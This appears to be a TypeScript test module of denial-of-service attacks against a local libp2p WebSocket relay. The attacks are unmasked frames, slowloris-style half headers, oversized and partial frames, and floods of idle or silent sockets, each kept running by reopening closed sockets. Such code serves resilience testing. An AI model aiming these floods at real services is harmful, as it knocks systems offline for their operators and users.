/** Strangers with bare sockets. Everything that ends is begun again, so that the load lasts. */
import { connect, type Socket } from 'node:net';
import type { Attack, Tell } from './attacker.ts';

const UPGRADE = Buffer.from(
  'GET / HTTP/1.1\r\nHost: relay\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n',
);
const MB = 1 << 20;

function portOf(multiaddr: string): number {
  const port = Number(/\/tcp\/(\d+)/.exec(multiaddr)?.[1]);
  if (!Number.isInteger(port)) throw new Error(`no port in ${multiaddr}`);
  return port;
}

/** A socket to the relay; an error ends it like anything else. */
function open(multiaddr: string): Socket {
  const socket = connect(portOf(multiaddr), '127.0.0.1');
  return socket.on('error', () => socket.destroy());
}

const wait = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));

/** Keeps `places` sockets busy: what has ended is begun again after `pause` ms. */
async function keep(places: number, pause: number, tell: Tell, begin: () => Socket): Promise<void> {
  let count = 0;
  const place = (): void => {
    const socket = begin();
    count += 1;
    if (count % 50 === 0) tell({ count });
    socket.resume();
    socket.once('close', () => setTimeout(place, pause));
  };
  for (let i = 0; i < places; i++) place();
  await wait(300);
  tell({ count });
}

function upgraded(multiaddr: string, then: (socket: Socket) => void): Socket {
  const socket = open(multiaddr);
  socket.write(UPGRADE);
  socket.once('data', () => then(socket));
  return socket;
}

/** A server must be sent masked frames only (RFC 6455 §5.1); one that was not used to take @libp2p/websockets down. */
export const unmasked: Attack = (multiaddr, tell) =>
  keep(8, 100, tell, () => upgraded(multiaddr, (socket) => void socket.write(Buffer.from('820568656c6c6f', 'hex'))));

/** Half an HTTP header, and then nothing. */
export const halfHeaders: Attack = (multiaddr, tell) =>
  keep(150, 100, tell, () => {
    const socket = open(multiaddr);
    socket.write(UPGRADE.subarray(0, 60));
    return socket;
  });

/** Five frames at a time that claim 99 MB each and bring as much of them as is taken. */
export const bigFrames: Attack = (multiaddr, tell) => {
  const head = Buffer.alloc(14);
  head.set([0x82, 0xff]);
  head.writeBigUInt64BE(BigInt(99 * MB), 2);
  const part = Buffer.alloc(MB / 4);
  return keep(5, 200, tell, () =>
    upgraded(multiaddr, (socket) => {
      socket.write(head);
      const pump = (): void => {
        while (!socket.destroyed && socket.write(part));
      };
      socket.on('drain', pump);
      pump();
    }),
  );
};

/** On 900 sockets, all of a message but its last byte: as much as a relay can be made to hold before anybody has said who it is. */
export const partFrames: Attack = (multiaddr, tell) => {
  const length = 250_000;
  const most = Buffer.alloc(14 + length - 1);
  most.set([0x82, 0xff]);
  most.writeBigUInt64BE(BigInt(length), 2);
  return keep(900, 500, tell, () => upgraded(multiaddr, (socket) => void socket.write(most)));
};

/** 200 WebSockets at once that then say nothing of libp2p; all again whenever the relay has ended them. */
export const connections: Attack = (multiaddr, tell) => keep(200, 500, tell, () => upgraded(multiaddr, () => undefined));

/** 200 sockets that never say a word. */
export const silence: Attack = (multiaddr, tell) => keep(200, 500, tell, () => open(multiaddr));
